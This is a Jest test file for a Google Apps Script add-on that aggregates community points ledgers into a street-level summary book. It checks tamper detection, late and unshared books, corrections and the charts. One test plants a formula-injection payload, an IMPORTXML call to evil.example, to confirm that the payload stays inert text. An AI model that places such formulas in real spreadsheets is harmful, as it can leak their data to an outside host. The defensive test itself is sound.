// 街道汇总 on the fake: a 街道 book reading three communities by link (view access only), one tampered, one late, one it may not open.

import { doSetup } from '../../src/gas/actions';
import * as entry from '../../src/gas/entry';
import { publishCorrection, publishHalfYear, publishMonth } from '../../src/gas/publish-action';
import { rollupSpreadsheet, setupRollupBook } from '../../src/gas/rollup-action';
import { getDialogOptions, submitDialog } from '../../src/gas/server-api';
import { TAB } from '../../src/shared/tabs';
import type { FakeGas } from '../fake';
import { cleanupGas, freshGas, NOW, OWNER, seedDemo, setSetting } from './helpers';

afterEach(cleanupGas);

type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;
const STREET = 'jiedao@example.com';

/** A copy of a community book as another community would have it: same values and formats, another name. */
function copyBook(from: Spreadsheet, name: string, keep?: (tab: string) => boolean): Spreadsheet {
  const to = SpreadsheetApp.create(name);
  const blank = to.getSheets()[0]!.setName('待删除');
  for (const s of from.getSheets()) {
    if (keep && !keep(s.getName())) continue;
    const r = s.getDataRange();
    const t = to.insertSheet(s.getName(), to.getSheets().length);
    const target = t.getRange(1, 1, r.getNumRows(), r.getNumColumns());
    target.setNumberFormats(r.getNumberFormats());
    target.setValues(r.getValues());
  }
  to.deleteSheet(blank);
  return to;
}

function setCommunityName(ss: Spreadsheet, name: string): void {
  const s = ss.getSheetByName(TAB.settings)!;
  const v = s.getDataRange().getValues();
  const row = v.findIndex((r) => r[0] === '社区名称');
  s.getRange(row + 1, 2).setValue(name);
}

/** Every tab's values, for "nothing changed" checks. */
function contents(ss: Spreadsheet): unknown {
  return ss.getSheets().map((s) => [s.getName(), s.getDataRange().getValues()]);
}

interface World {
  fake: FakeGas;
  east: Spreadsheet;
  west: Spreadsheet;
  south: Spreadsheet;
  hidden: Spreadsheet;
  street: Spreadsheet;
}

/**
 * 东风 published 01–03 through the add-on; 西湖 is a copy with 公示-2026-02 edited after publication;
 * 南山 a copy that kept only the January publication; 北山 a copy not shared with the 街道.
 */
function world(): World {
  const fake = freshGas();
  doSetup();
  seedDemo(fake, { cadres: 4 });
  setSetting(fake, '社区名称', '东风社区');
  const east = fake.spreadsheet;
  // Each month published on the 5th of the next (the add-on reads "now" from Date).
  for (const m of ['2026-01', '2026-02', '2026-03']) {
    jest.setSystemTime(new Date(`2026-0${Number(m.slice(5)) + 1}-05T02:00:00Z`));
    publishMonth(east, m, OWNER);
  }
  jest.setSystemTime(NOW);
  const west = copyBook(east, '西湖社区积分台账');
  setCommunityName(west, '西湖社区');
  west.getSheetByName('公示-2026-02')!.getRange(5, 7).setValue(99);
  const south = copyBook(east, '南山社区积分台账', (t) => t !== '公示-2026-02' && t !== '公示-2026-03');
  setCommunityName(south, '南山社区');
  const pub = south.getSheetByName(TAB.publications)!;
  pub.deleteRows(3, 2);
  const hidden = copyBook(east, '北山社区积分台账');
  for (const c of [east, west, south]) c.addViewer(STREET);
  const street = SpreadsheetApp.create('街道汇总');
  street.addEditor(STREET);
  fake.setActiveSpreadsheet(street);
  fake.setActiveUser(STREET);
  setupRollupBook(street);
  const list = street.getSheetByName('社区列表')!;
  list.getRange(2, 1, 5, 2).setValues([
    ['东风社区', east.getUrl()],
    ['西湖社区', west.getUrl()],
    ['南山社区', south.getUrl()],
    ['北山社区', hidden.getUrl()],
    ['错链接社区', 'http://example.com/x'],
  ]);
  return { fake, east, west, south, hidden, street };
}

test('setup makes the 社区列表 tab with its headers; a community book refuses to become a 街道 book', () => {
  const { fake, east, street } = world();
  expect(street.getSheetByName('社区列表')!.getRange(1, 1, 1, 3).getValues()).toEqual([
    ['社区名称', '表格链接', '备注'],
  ]);
  fake.setActiveUser(OWNER);
  fake.setActiveSpreadsheet(east);
  const before = contents(east);
  const alerts = fake.ui.alerts.length;
  entry.menuRollup();
  entry.menuRollupSetup();
  const shown = fake.ui.alerts.slice(alerts).map((a) => a.prompt);
  const refusal =
    '本表格是社区的积分台账（有「设置」或「公示记录」表），不能用作街道汇总表。请新建一个空白表格，在其中运行「街道：设置社区列表」。';
  expect(shown).toEqual([refusal, refusal]);
  expect(contents(east)).toEqual(before);
});

test('the roll-up as the 街道 (viewer only): flags and figures, the unshared and the bad link reported, communities untouched', () => {
  const { fake, east, west, south, hidden, street } = world();
  const before = [east, west, south, hidden].map((c) => {
    fake.setActiveUser(OWNER);
    const v = contents(c);
    fake.setActiveUser(STREET);
    return v;
  });
  fake.counts.reset();
  const out = rollupSpreadsheet(street, '2026-04');
  expect(out.message).toBe(
    [
      '已汇总 3 个社区（截至 2026-04），见「街道总览」表。',
      '东风社区：校验一致 3 个月，逾期 0，无法校验 0，被改动 0',
      '西湖社区：校验一致 2 个月，逾期 0，无法校验 0，被改动 1',
      '南山社区：校验一致 1 个月，逾期 2，无法校验 0，被改动 0',
      `无法读取：北山社区：打不开（链接有误、表格已删除，或未共享给本账号 ${STREET}）`,
      '无法读取：错链接社区：「社区列表」第6行的表格链接无效（http://example.com/x）',
    ].join('\n'),
  );
  const [e, w, s] = out.communities;
  expect([e!.flags, w!.flags, s!.flags]).toEqual([[], ['tampered'], ['late']]);
  expect(w!.months[1]).toMatchObject({ month: '2026-02', state: 'tampered' });
  expect(w!.months[1]!.notes[0]).toBe('公示-2026-02 发布后被改动（内容与 SHA-256 不符）');
  // Hand check: each cadre's figures are 起始分 + the 月度积分 of 东风's own 公示 tabs.
  fake.setActiveUser(OWNER);
  for (const c of e!.cadres) {
    let sum = c.startingPoints;
    for (const m of ['2026-01', '2026-02', '2026-03']) {
      const v = east.getSheetByName(`公示-${m}`)!.getDataRange().getValues();
      sum += Number(v.find((r) => r[1] === c.cadreId)![6]);
    }
    const ytd = east
      .getSheetByName('公示-2026-03')!
      .getDataRange()
      .getValues()
      .find((r) => r[1] === c.cadreId)![7];
    expect([c.year, c.h1]).toEqual([sum, sum]);
    expect(c.year).toBe(Number(ytd));
  }
  expect([east, west, south, hidden].map(contents)).toEqual(before);
  fake.setActiveUser(STREET);
  const ov = street.getSheetByName('街道总览')!.getDataRange().getValues();
  expect(ov.slice(4, 7).map((r) => [r[0], r[4], r[5], r[7], r[11]])).toEqual([
    ['东风社区', 3, 0, 0, '正常'],
    ['西湖社区', 2, 0, 1, '公示被改动'],
    ['南山社区', 1, 2, 0, '逾期'],
  ]);
  expect(street.getSheets().map((x) => x.getName())).toEqual([
    '社区列表',
    '街道总览',
    '工作表1',
    '东风社区',
    '西湖社区',
    '南山社区',
  ]);
});

test('reads per community, not per row: one getValues per needed tab', () => {
  const { fake, street } = world();
  fake.counts.reset();
  rollupSpreadsheet(street, '2026-04');
  // 社区列表 once; each community: 设置, 公示记录, 异议处理 and one per 公示 tab (东风 3, 西湖 3, 南山 1).
  expect(fake.counts.get('Range.getValues')).toBe(1 + (3 + 3) + (3 + 3) + (3 + 1));
  expect(fake.counts.get('SpreadsheetApp.openByUrl')).toBe(4);
  expect(fake.counts.get('Range.getDisplayValues')).toBe(0);
  expect(fake.counts.get('Sheet.isRowHiddenByUser')).toBe(0);
  // Written: 街道总览 and three community tabs, one setValues each.
  expect(fake.counts.get('Range.setValues')).toBe(4);
});

test('a rerun replaces the tabs; a community dropped from the list loses its tab', () => {
  const { street } = world();
  rollupSpreadsheet(street, '2026-04');
  street.getSheetByName('社区列表')!.getRange(3, 1, 1, 2).clearContent();
  const out = rollupSpreadsheet(street, '2026-04');
  expect(out.communities.map((c) => c.name)).toEqual(['东风社区', '南山社区']);
  expect(street.getSheets().map((x) => x.getName())).toEqual([
    '社区列表',
    '街道总览',
    '工作表1',
    '东风社区',
    '南山社区',
  ]);
});

test('openByUrl of a spreadsheet the user may not open fails as in Google (the fake’s per-user access)', () => {
  const { fake, hidden } = world();
  expect(() => SpreadsheetApp.openByUrl(hidden.getUrl())).toThrow(
    'Unexpected error while getting the method or property openByUrl on object SpreadsheetApp.',
  );
  expect(() => SpreadsheetApp.openById(hidden.getId())).toThrow(
    'Unexpected error while getting the method or property openById on object SpreadsheetApp.',
  );
  hidden.addViewer(STREET);
  expect(SpreadsheetApp.openByUrl(hidden.getUrl()).getName()).toBe('北山社区积分台账');
  fake.setActiveUser(OWNER);
  expect(SpreadsheetApp.openById(hidden.getId()).getName()).toBe('北山社区积分台账');
});

test('text from a community that starts with = stays text in the 街道 book (never a formula, apps-script-facts §1.3)', () => {
  const { fake, west, street } = world();
  fake.setActiveUser(OWNER);
  const evil = '=IMPORTXML("http://evil.example/?q","//a")';
  const o = west.getSheetByName(TAB.objections)!.getRange(2, 1, 1, 4);
  o.setNumberFormat('@');
  o.setValues([['O1', '2026-02', '001', evil]]);
  fake.setActiveUser(STREET);
  rollupSpreadsheet(street, '2026-04');
  const tab = street.getSheetByName('西湖社区')!.getDataRange();
  expect(tab.getFormulas().flat().filter(Boolean)).toEqual([]);
  expect(tab.getValues().find((r) => r[0] === 'O1')).toEqual([
    'O1',
    '2026-02',
    `001 ${evil}`,
    '待处理',
    '',
    '',
    '',
  ]);
});

test('an upheld objection and its 更正公示: the roll-up uses the corrected figures and lists the correction', () => {
  const fake = freshGas();
  doSetup();
  seedDemo(fake, { cadres: 4 });
  const ss = fake.spreadsheet;
  for (const m of ['2026-01', '2026-02']) {
    jest.setSystemTime(new Date(`2026-0${Number(m.slice(5)) + 1}-05T02:00:00Z`));
    publishMonth(ss, m, OWNER);
  }
  jest.setSystemTime(new Date('2026-03-10T02:00:00Z'));
  expect(
    submitDialog({
      kind: 'objection',
      month: '2026-02',
      cadreId: '002',
      entryId: '',
      content: '漏记一起调解',
    }).ok,
  ).toBe(true);
  const objection = getDialogOptions().objections!.find((x) => x.cadreId === '002')!;
  const finding = submitDialog({
    kind: 'finding',
    objectionId: objection.id,
    result: 'upheld',
    opinion: '属实',
    corrections: [{ entryId: '', ruleCode: 'T-MEDIATION', pointsDelta: 5, reason: '补记1起调解' }],
  });
  expect(finding.ok).toBe(true);
  publishCorrection(ss, '2026-02', OWNER);
  const street = SpreadsheetApp.create('街道汇总');
  fake.setActiveSpreadsheet(street);
  setupRollupBook(street);
  street
    .getSheetByName('社区列表')!
    .getRange(2, 1, 1, 2)
    .setValues([['东风社区', ss.getUrl()]]);
  const [c] = rollupSpreadsheet(street, '2026-03').communities;
  expect(c!.flags).toEqual([]);
  expect(c!.months[1]).toMatchObject({ state: 'verified', tabName: '公示-2026-02 更正1', versions: 2 });
  expect(c!.corrections.map((x) => [x.period, x.tabName, x.version, x.state])).toEqual([
    ['2026-02', '公示-2026-02 更正1', 2, 'verified'],
  ]);
  expect(c!.objections).toMatchObject({ total: 1, upheld: 1, pending: 0 });
  // 002's February is the corrected one: 5 more than the original 公示-2026-02 said.
  const monthly = (tab: string) =>
    Number(
      ss
        .getSheetByName(tab)!
        .getDataRange()
        .getValues()
        .find((r) => r[1] === '002')![6],
    );
  expect(monthly('公示-2026-02 更正1')).toBe(monthly('公示-2026-02') + 5);
  expect(c!.cadres.find((x) => x.cadreId === '002')!.months['2026-02']).toBe(monthly('公示-2026-02 更正1'));
  expect(c!.findings).toEqual([]);
});

test('a verified half-year 公示 is taken as published: its 合计, 分档 and 结果运用', () => {
  const fake = freshGas();
  doSetup();
  seedDemo(fake, { cadres: 4 });
  const ss = fake.spreadsheet;
  for (let m = 1; m <= 6; m++) {
    jest.setSystemTime(new Date(`2026-0${m + 1}-05T02:00:00Z`));
    publishMonth(ss, `2026-0${m}`, OWNER);
  }
  publishHalfYear(ss, '2026-H1', OWNER);
  const street = SpreadsheetApp.create('街道汇总');
  fake.setActiveSpreadsheet(street);
  setupRollupBook(street);
  street
    .getSheetByName('社区列表')!
    .getRange(2, 1, 1, 2)
    .setValues([['东风社区', ss.getUrl()]]);
  const [c] = rollupSpreadsheet(street, '2026-07').communities;
  const h1 = c!.periods.find((p) => p.period === '2026-H1')!;
  expect(h1.basis).toBe('published');
  const table = ss.getSheetByName('公示-2026-H1')!.getDataRange().getValues();
  const header = table.findIndex((r) => r[1] === '编号' && r.includes('合计'));
  const published = table.slice(header + 1, header + 5);
  expect(h1.rows.map((r) => [r.cadreId, r.total, r.tiers, r.consequence])).toEqual(
    published.map((r) => [r[1], r[8], r[9], r[10]]),
  );
  // The same totals as 起始分 + the six months.
  for (const r of h1.rows) expect(r.total).toBe(c!.cadres.find((x) => x.cadreId === r.cadreId)!.h1);
  expect(c!.flags).toEqual([]);
});

test('街道总览 has two native bar charts (按时公示 per community, distribution of totals), replaced on a rerun', () => {
  const { street } = world();
  rollupSpreadsheet(street, '2026-04');
  rollupSpreadsheet(street, '2026-04');
  const ov = street.getSheetByName('街道总览')!;
  const charts = ov.getCharts();
  expect(charts.map((c) => c.getRanges().map((r) => r.getA1Notation()))).toEqual([
    ['A4:A7', 'E4:E7'],
    [expect.stringMatching(/^A\d+:B\d+$/)],
  ]);
  expect(charts.map((c) => c.getOptions().get('title'))).toEqual([
    '各社区按时公示月数',
    '年度合计分布（人数）',
  ]);
  const [from, to] = charts[1]!.getRanges()[0]!.getA1Notation().match(/\d+/g)!.map(Number) as [
    number,
    number,
  ];
  const values = ov.getRange(from, 1, to - from + 1, 2).getValues();
  expect(values[0]).toEqual(['分数段', '人数']);
  expect(values.slice(1).reduce((s, r) => s + Number(r[1]), 0)).toBe(12);
});
